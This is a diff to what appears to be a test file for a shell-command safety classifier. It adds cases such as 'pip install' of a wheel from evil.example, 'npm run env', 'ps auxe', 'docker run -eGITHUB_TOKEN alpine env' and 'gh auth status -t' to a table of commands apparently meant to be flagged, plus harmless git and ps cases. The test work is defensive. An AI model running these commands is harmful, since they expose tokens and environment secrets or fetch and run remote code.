@@ -133,6 +133,7 @@ OTHER_CODE = {
         "pip install, uv pip install, cargo test, go test, go vet, gradle test, mvn test, "
         "dotnet test, cmake, ctest, meson test, ninja, bazel test, rspec, bundle exec rspec, "
         "rubocop, phpunit, phpstan, deno test, bun test, javac, ansible-playbook, stack test, "
+        "npm run, ps, hyperfine, watchexec, nodemon, "
         "pre-commit run, mix test, python3 manage.py test, coverage run, isort, swift build",
         """
         npm test --script-shell=./x
@@ -180,6 +181,13 @@ OTHER_CODE = {
         pip install --index-url https://evil.example x
         pip install -i https://evil.example x
         pip install git+https://evil.example/x
+        pip install 'x @ https://evil.example/x.whl'
+        pytest @evil
+        npm run env
+        ps auxe
+        hyperfine ./x
+        watchexec ./x
+        nodemon --exec ./x
         pip install https://evil.example/x.whl
         pip install -e /tmp/evil
         pip install -r https://evil.example/r.txt
@@ -269,6 +277,11 @@ OTHER_CODE = {
         docker compose --project-directory /tmp up
         docker compose --env-file .env up
         docker compose config
+        docker compose convert
+        docker run -eGITHUB_TOKEN alpine env
+        docker run --cgroup-parent=/ alpine
+        docker run --volume-driver=evil alpine
+        gh auth status -t
         docker compose run -v /:/h app
         docker-compose -f /tmp/x.yml up
         docker save alpine -o /home/u/x
@@ -383,7 +396,7 @@ HARMLESS = {
     "gradle test, mvn test, dotnet test, cmake, ctest, ninja, docker run, docker compose, "
     "docker build, docker ps, docker logs, docker exec, kubectl get, kubectl logs, helm template, "
     "terraform plan, gh pr, pip install, mypy, ruff check, eslint, jest, prettier, tsc, git add, "
-    "git mv, git restore, git checkout, git rm, git stash, deno test, rspec": """
+    "git mv, git restore, git checkout, git rm, git stash, deno test, rspec, ps": """
         make test
         make test V=1
         make test -j4
@@ -460,6 +473,10 @@ HARMLESS = {
         git restore --source=HEAD~1 src/a.py
         git checkout main
         git checkout -b feature/x
+        git checkout -
+        git checkout feature/docs
+        git diff -- '*.py'
+        ps aux
         git checkout -- src/a.py
         git rm src/a.py
         git stash push -m wip
@@ -492,7 +509,7 @@ def project(tmp_path: Path) -> Path:
     for name in (*files, ".git/config", ".vscode/tasks.json"):
         path = root / name
         path.parent.mkdir(parents=True, exist_ok=True)
-        path.write_text("x")
+        path.write_text("[core]\n")
     return root
 
 
